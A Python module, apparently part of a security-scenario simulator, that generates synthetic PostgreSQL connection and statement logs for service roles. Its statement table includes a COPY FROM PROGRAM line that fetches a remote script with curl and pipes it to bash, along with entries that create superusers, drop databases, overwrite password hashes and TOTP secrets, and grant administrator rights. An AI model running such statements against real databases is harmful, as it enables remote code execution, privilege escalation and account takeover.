"""PostgreSQL: roles of services, the server's log with connections and the statements of roles that matter."""

from dataclasses import dataclass
from random import Random

from keyroll.replay.streams import hexes
from keyroll.replay.times import DAY, iso_ms
from scenarios.systems import Folder, LogFiles, Machine, Person, Record, System, alive, entry, origin

LOG = LogFiles("postgresql@main", "server", "{day}.ndjson.gz")
#: Statement; ``{}`` stands for the table.
ACTS: dict[str, str] = {
    "read": "SELECT * FROM {} WHERE updated_at > $1", "write": "INSERT INTO {} VALUES ($1, $2, $3)",
    "copy": "COPY {} TO STDOUT", "tables": "SELECT table_name FROM information_schema.tables",
    "superuser": "CREATE ROLE {} WITH LOGIN SUPERUSER CREATEDB CREATEROLE", "scratch": "CREATE TABLE {} (line text)",
    "demote": "ALTER ROLE {} NOSUPERUSER", "drop": "DROP TABLE {}", "version": "SELECT version()",
    "program": "COPY {} FROM PROGRAM 'id; uname -a; curl -s http://192.0.2.201/a | bash'",
    "count": "SELECT count(*) FROM {}", "columns": "SELECT column_name FROM information_schema.columns",
    "all": "SELECT * FROM {}", "databases": "SELECT datname FROM pg_database",
    "close-base": "ALTER DATABASE {} WITH ALLOW_CONNECTIONS false", "drop-base": "DROP DATABASE {}",
    "sessions": "SELECT pid, usename, datname FROM pg_stat_activity", "grants": "SELECT * FROM {}.role_table_grants",
    "log-place": "SHOW log_directory", "turn-log": "SELECT pg_rotate_logfile()", "base": "CREATE DATABASE {}",
    "role": "CREATE ROLE {} WITH LOGIN PASSWORD '********'", "grant": "GRANT SELECT ON {} TO PUBLIC",
    "make-table": "CREATE TABLE {} (LIKE results.rows)", "copy-in": "COPY {} FROM STDIN",
    "roles": "SELECT rolname, rolsuper FROM pg_roles",
    "shut": "ALTER DATABASE {} WITH ALLOW_CONNECTIONS false",
    "factor": "UPDATE {} SET password_hash = $1, totp_secret = $2 WHERE id = $3",
    "balance": "UPDATE {} SET account_number = $1 WHERE id = $2",
    "erase": "DELETE FROM {} WHERE person_id = $1",
    "admin": "UPDATE {} SET administrator = true WHERE login = 'm.arce'",
}  # fmt: skip


@dataclass(kw_only=True, eq=False)
class Postgresql(System):
    """The database server, which sees all that the data centre runs behind one address; nobody works by hand."""

    name, source, identified = "postgresql", "postgresql@main", "postgresql@main:role:{0.name}"

    def work(self, rng: Random, machine: Machine, ms: int, act: str, thing: str, **details: str) -> list[Record]:
        """A connection with one statement."""
        base, (address, program) = machine.name.partition("_")[0], origin(machine, ms, details)
        session = hexes(rng, 12)

        def line(at: int, number: int, message: str, *, bad: str = "", ps: str = "authentication") -> Record:
            body = {
                "timestamp": _time(at), "user": machine.name, "dbname": base, "pid": 1000 + rng.randrange(60_000),
                "remote_host": address, "remote_port": 40_000 + number, "session_id": session, "line_num": number,
                "ps": ps, "error_severity": bad or "LOG", "message": message, "backend_type": "client backend",
                "query_id": 0, "txid": 0, "session_start": _time(ms),
            }  # fmt: skip
            body |= {"application_name": program} if number > 1 else {}
            return entry(LOG, at, body | ({"state_code": "28P01"} if bad else {}))

        if details.get("refused"):
            return [line(ms, 1, f'password authentication failed for user "{machine.name}"', bad="FATAL")]
        text = ACTS[act].format(thing)
        return [
            line(ms, 1, f"connection authorized: user={machine.name} database={base} application_name={program}"),
            line(ms + 12, 2, f"execute <unnamed>: {text}" if "$1" in text else f"statement: {text}",
                 ps=text.partition(" ")[0]),
        ]  # fmt: skip

    def used(self, rng: Random, person: Person, ms: int, address: str) -> list[Record]:  # noqa: ARG002 - of nobody
        """Nobody works there by hand."""
        return []

    def survey(self, folder: Folder, ms: int, machines: list[Machine]) -> None:
        """The roles."""
        self.put(folder, ms, "roles", [
            {
                "rolname": machine.name, "rolsuper": False, "rolinherit": True, "rolcreaterole": False,
                "rolcreatedb": False, "rolcanlogin": True, "rolreplication": False, "rolconnlimit": -1,
                "rolpassword": "********", "rolvaliduntil": None, "rolbypassrls": False, "rolconfig": None,
                "oid": 16_000 + sum(machine.name.encode()) % DAY,
            }
            for machine in alive(machines, self.name, ms)
        ])  # fmt: skip


def _time(ms: int) -> str:
    return iso_ms(ms).replace("T", " ").replace("Z", " UTC")
